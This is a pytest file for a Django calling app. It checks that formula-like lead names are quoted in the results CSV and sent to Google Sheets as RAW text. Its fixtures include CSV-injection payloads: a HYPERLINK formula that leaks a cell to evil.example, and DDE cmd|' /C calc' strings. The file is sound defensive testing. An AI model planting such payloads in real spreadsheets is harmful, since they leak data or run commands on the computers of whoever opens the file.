"""What a lead's sheet says never runs as a formula when staff open the results: the results CSV quotes any cell
a spreadsheet would read as one (OWASP's CSV-injection advice), and Google gets the same text RAW, unevaluated."""
from __future__ import annotations

import csv

import pytest

from apps.calls.models import CallStatus
from apps.integrations.sheets.file_writeback import spreadsheet_safe
from apps.integrations.sheets.models import SheetWriteback
from tests.conftest import HEADER, write_csv
from tests.integrations.fake_google import running_fake_google
from tests.integrations.test_sheet_writeback import (
    KEY,
    call_ends,
    flush,
    fresh_writeback_state,  # noqa: F401 - an autouse fixture
    google_campaign,  # noqa: F401 - a fixture
    import_leads,
)

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


def lead_row(name: str, phone: str) -> list[str]:
    return [name, phone, "", "", "", "Website form", "2026-09-14"]


def raw_rows(path) -> list[dict[str, str]]:
    """The results file as a spreadsheet program gets it: every cell exactly as written."""
    with path.open(newline="", encoding="utf-8-sig") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture
def google(no_proxy):
    with running_fake_google() as fake:
        yield fake


@pytest.mark.parametrize(("value", "written"), [
    (HYPERLINK, "'" + HYPERLINK),
    (DDE, "'" + DDE),
    (MINUS, "'" + MINUS),
    ("+cmd|' /C notepad'!A0", "'+cmd|' /C notepad'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    # Plain numbers cannot call anything and keep their meaning: an E.164 phone, a score, a negative amount.
    ("+12125550134", "+12125550134"),
    ("-1", "-1"),
    ("-12.50", "-12.50"),
    ("85", "85"),
    ("Maria Gonzalez", "Maria Gonzalez"),
    ("'=already quoted", "'=already quoted"),
    ("", ""),
])
def test_it_quotes_what_a_spreadsheet_would_run(value, written):
    assert spreadsheet_safe(value) == written


@pytest.mark.django_db
def test_formulas_from_the_sheet_reach_the_results_file_as_text(campaign, sheet_path):
    write_csv(sheet_path, [lead_row(HYPERLINK, "(212) 555-0134"), lead_row(DDE, "312.555.0101"),
                           lead_row(MINUS, "617-555-0121")])
    leads = import_leads(campaign)
    calls = [call_ends(lead, CallStatus.NO_ANSWER) for lead in leads.values()]

    assert flush(campaign) == "3 done"

    rows = raw_rows(sheet_path.with_name("leads.results.csv"))
    assert [(row["Call ID"], row["Name"], row["Phone"]) for row in rows] == [
        (str(calls[0].pk), "'" + HYPERLINK, "+12125550134"),
        (str(calls[1].pk), "'" + DDE, "+13125550101"),
        (str(calls[2].pk), "'" + MINUS, "+16175550121"),
    ]


@pytest.mark.django_db
def test_a_results_file_written_before_quoting_is_quoted_at_the_next_write(campaign, sheet_path):
    write_csv(sheet_path, [lead_row("Maria Gonzalez", "(212) 555-0134")])
    leads = import_leads(campaign)
    results = sheet_path.with_name("leads.results.csv")
    header = ["Call ID", "Name", "Phone", "Sheet Row", "Call Status", "Last Called", "Outcome", "Score", "Band",
              "Appointment", "Callback", "Summary"]
    write_csv(results, [["999", HYPERLINK, "+12125550199", "7", "No answer", "", "No answer", "", "", "", "", ""]],
              header=header)

    call = call_ends(leads["Maria"], CallStatus.NO_ANSWER)
    flush(campaign)

    assert [(row["Call ID"], row["Name"]) for row in raw_rows(results)] == [
        ("999", "'" + HYPERLINK), (str(call.pk), "Maria Gonzalez")]


@pytest.mark.django_db
def test_a_result_column_named_like_a_formula_is_quoted_once(campaign, sheet_path):
    write_csv(sheet_path, [lead_row("Maria Gonzalez", "(212) 555-0134"), lead_row("James Carter", "312.555.0101")])
    campaign.writeback_columns = {"outcome": "@Outcome"}
    campaign.save()
    leads = import_leads(campaign)
    for name in ("Maria", "James"):
        call_ends(leads[name], CallStatus.BUSY)
        flush(campaign)

    with sheet_path.with_name("leads.results.csv").open(newline="", encoding="utf-8-sig") as handle:
        lines = list(csv.reader(handle))
    assert lines[0] == ["Call ID", "Name", "Phone", "Sheet Row", "'@Outcome"]
    assert [line[1:] for line in lines[1:]] == [["Maria Gonzalez", "+12125550134", "2", "Busy"],
                                                ["James Carter", "+13125550101", "3", "Busy"]]


@pytest.mark.django_db
def test_google_gets_a_formula_as_raw_text_never_evaluated(google_campaign, google):  # noqa: F811 - the fixture
    google.add_spreadsheet(KEY, {"Leads": [HEADER, lead_row(HYPERLINK, "(212) 555-0134")]})
    google_campaign.results_worksheet = "Call results"
    google_campaign.save()
    [lead] = import_leads(google_campaign).values()
    call = call_ends(lead, CallStatus.NO_ANSWER)

    assert flush(google_campaign) == "1 done"

    [write] = google.value_writes
    assert write.body["valueInputOption"] == "RAW"  # Google stores the text; USER_ENTERED would parse formulas
    sent = [row for data in write.body["data"] for row in data["values"] if row[0] == call.pk]
    assert [row[:3] for row in sent] == [[call.pk, HYPERLINK, "+12125550134"]]  # as the sheet said it: no quote
    assert google.cells(KEY, "Call results")[1][1] == HYPERLINK
    assert SheetWriteback.objects.get().status == SheetWriteback.Status.DONE
